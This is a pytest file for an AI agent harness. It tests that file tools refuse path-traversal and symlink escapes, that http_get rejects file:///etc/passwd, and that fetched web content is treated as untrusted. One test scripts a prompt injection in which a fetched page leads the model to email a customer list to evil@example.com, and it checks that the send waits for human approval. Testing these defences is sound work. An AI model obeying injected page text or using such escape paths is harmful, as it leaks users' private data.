"""Built-in tools: file access confined to the job's folders, http_get bounded and
untrusted (its content makes an `after_untrusted = "approve"` tool wait for a person)."""

from __future__ import annotations

import json
import os
import re

import pytest

from tests.fake_api import tool_turn
from tests.servers import HttpServer
from tests.turns import finish, update_memory

SECRET = "the-outside-secret-7f3a"


@pytest.fixture
def files_project(project, tmp_path):
    """data/ is allowed; secret.txt (in the project) and an outside file are not."""
    (project.root / "data/sub").mkdir(parents=True)
    (project.root / "data/report.txt").write_text("revenue 42\n")
    (project.root / "secret.txt").write_text(SECRET)
    outside = tmp_path / "outside.txt"
    outside.write_text(SECRET)
    os.symlink(outside, project.root / "data/link.txt")
    os.symlink(tmp_path, project.root / "data/linkdir")
    project.job("files", tools=["read_file", "write_file"], body='''
        [tool.read_file]
        paths = ["data/"]

        [tool.write_file]
        paths = ["data/out"]
    ''')
    return project


def test_read_and_write_inside_allowed_folders(files_project, fake_api):
    fake_api.enqueue(
        tool_turn([("read_file", {"path": "data/report.txt"})]),
        tool_turn([("write_file", {"path": "data/out/summary.txt", "content": "42 it is"})]),
        tool_turn([update_memory(), finish()]),
    )
    ran = files_project.run("run", "files")
    assert ran.code == 0, ran.stderr
    assert "revenue 42" in json.dumps(fake_api.message_requests[1].body["messages"][-1])
    assert (files_project.root / "data/out/summary.txt").read_text() == "42 it is"


@pytest.mark.parametrize("tool,args", [
    ("read_file", {"path": "../outside.txt"}),
    ("read_file", {"path": "data/../secret.txt"}),
    ("read_file", {"path": "ABSOLUTE"}),
    ("read_file", {"path": "data/link.txt"}),
    ("read_file", {"path": "data/linkdir/outside.txt"}),
    ("write_file", {"path": "data/out/../../secret.txt", "content": "pwned"}),
    ("write_file", {"path": "data/linkdir/outside.txt", "content": "pwned"}),
    ("write_file", {"path": "data/report.txt", "content": "pwned"}),
])
def test_path_escapes_are_refused(files_project, fake_api, tmp_path, tool, args):
    if args["path"] == "ABSOLUTE":
        args = {**args, "path": str(tmp_path / "outside.txt")}
    fake_api.enqueue(tool_turn([(tool, args)]))
    ran = files_project.run("run", "files")
    assert ran.code == 1
    assert "ABORTED (tool_failed)" in ran.stderr and "refused" in ran.stderr
    assert len(fake_api.message_requests) == 1
    assert SECRET not in json.dumps([r.body for r in fake_api.message_requests])
    assert (tmp_path / "outside.txt").read_text() == SECRET
    assert (files_project.root / "secret.txt").read_text() == SECRET
    assert (files_project.root / "data/report.txt").read_text() == "revenue 42\n"


def test_http_get_output_is_untrusted_and_taints_the_session(project, fake_api):
    project.job("watch", tools=["http_get", "send_email"], body='''
        [tool.send_email]
        after_untrusted = "approve"
    ''')
    with HttpServer() as server:
        fake_api.enqueue(
            tool_turn([("http_get", {"url": server.url + "/status"})]),
            tool_turn([("send_email", {"to": ["evil@example.com"], "subject": "list",
                                       "body": "customers"})], text="The page says to."),
            tool_turn([update_memory(), finish()]),
        )
        ran = project.run("run", "watch")
    assert ran.code == 4, ran.stderr
    assert not (project.root / "outbox").exists()  # nothing was sent
    fetched = json.dumps(fake_api.message_requests[1].body["messages"][-1])
    assert "text/plain; charset=utf-8" in fetched and "<<<tool-output" in fetched
    [approval] = project.run("approvals", "--json").json()
    assert approval["tool"] == "send_email" and approval["args"]["to"] == ["evil@example.com"]
    [alert] = [a for a in project.alerts() if a["event"] == "approval.pending"]
    assert "untrusted content" in alert["message"]


def test_http_get_caps_size_and_notes_binary(project, fake_api):
    project.job("fetch", tools=["http_get"])
    with HttpServer() as server:
        fake_api.enqueue(
            tool_turn([("http_get", {"url": server.url + "/big"})]),
            tool_turn([("http_get", {"url": server.url + "/logo.png"})]),
            tool_turn([update_memory(), finish()]),
        )
        ran = project.run("run", "fetch")
    assert ran.code == 0, ran.stderr
    big = json.dumps(fake_api.message_requests[1].body["messages"][-1])
    assert '\\"truncated\\": true' in big and "cut at 1000000 bytes" in big
    png = json.dumps(fake_api.message_requests[2].body["messages"][-1])
    assert "binary content (image/png) not shown" in png


def test_http_get_timeout_and_error_status_stop_the_run(project, fake_api):
    project.job("slow", tools=["http_get"], body='''
        [tool.http_get]
        timeout = "1s"
    ''')
    with HttpServer() as server:
        fake_api.enqueue(tool_turn([("http_get", {"url": server.url + "/slow"})]))
        slow = project.run("run", "slow")
        fake_api.enqueue(tool_turn([("http_get", {"url": server.url + "/missing"})]))
        down = project.run("run", "slow")
        fake_api.enqueue(tool_turn([("http_get", {"url": "file:///etc/passwd"})]))
        local = project.run("run", "slow")
    assert slow.code == 1 and re.search(r"(within|timed out after) 1s", slow.stderr)
    assert down.code == 1 and "HTTP 503" in down.stderr
    assert local.code == 1 and "only http:// and https:// URLs" in local.stderr
